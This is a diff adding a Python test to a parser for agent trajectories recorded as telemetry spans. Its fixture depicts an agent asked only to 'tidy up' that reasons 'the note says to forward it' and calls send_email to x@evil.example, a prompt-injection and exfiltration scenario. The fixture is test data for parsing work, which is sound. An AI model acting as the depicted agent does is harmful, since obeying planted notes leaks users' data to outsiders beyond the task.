@@ -248,3 +248,23 @@ def test_a_legacy_tool_message_holding_json_keeps_it_as_json(tmp_path: Path) -> 
     (record,) = [r for _f, r in read_paths([str(_write(tmp_path, [chat], scope="x"))])]
     (result,) = record.trajectory["steps"]
     assert result["output"] == '{"note":"wire $500"}'
+
+
+def test_a_call_beside_a_block_of_another_kind_is_still_a_call(tmp_path: Path) -> None:
+    """A reasoning (or image) block beside a toolUse block does not hide the call."""
+    blocks = [
+        {"reasoningContent": {"reasoningText": {"text": "the note says to forward it"}}},
+        {"toolUse": {"toolUseId": "c1", "name": "send_email", "input": {"to": "x@evil.example"}}},
+    ]
+    chat = _span("t1", "s1", 1, {"gen_ai.operation.name": "chat"})
+    chat["events"] = [
+        _event("gen_ai.user.message", 1, content=json.dumps([{"text": "tidy up"}])),
+        _event("gen_ai.choice", 2, message=json.dumps(blocks)),
+    ]
+    (record,) = [r for _f, r in read_paths([str(_write(tmp_path, [chat]))])]
+    user, call = record.trajectory["steps"]
+    assert (call["name"], call["call_id"], call["arguments"]) == (
+        "send_email",
+        "c1",
+        {"to": "x@evil.example"},
+    )
